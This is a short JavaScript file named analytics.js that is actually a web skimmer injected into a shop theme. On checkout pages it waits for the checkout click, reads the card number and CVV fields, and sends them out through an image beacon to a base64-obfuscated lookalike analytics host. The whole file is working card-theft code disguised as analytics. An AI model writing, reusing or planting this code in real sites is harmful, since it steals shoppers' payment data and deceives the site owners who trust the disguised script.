analytics.js
// "Analytics" injected into a theme: waits for checkout, reads the card, beacons it out.
(function () {
    if (!/onepage|checkout/.test(window.location.href)) { return; }
    var gate = atob('aHR0cHM6Ly9nb29nbGUtYW5hbGl0eWNzLmV4YW1wbGUvY29sbGVjdA==');
    document.addEventListener('click', function (e) {
        if (!e.target.closest('button.checkout')) { return; }
        var number = document.querySelector('input[name="payment[cc_number]"]').value;
        var cvv = document.querySelector('input[name="payment[cc_cid]"]').value;
        var img = new Image();
        img.src = gate + '?d=' + btoa(number + ';' + cvv);
    });
})();
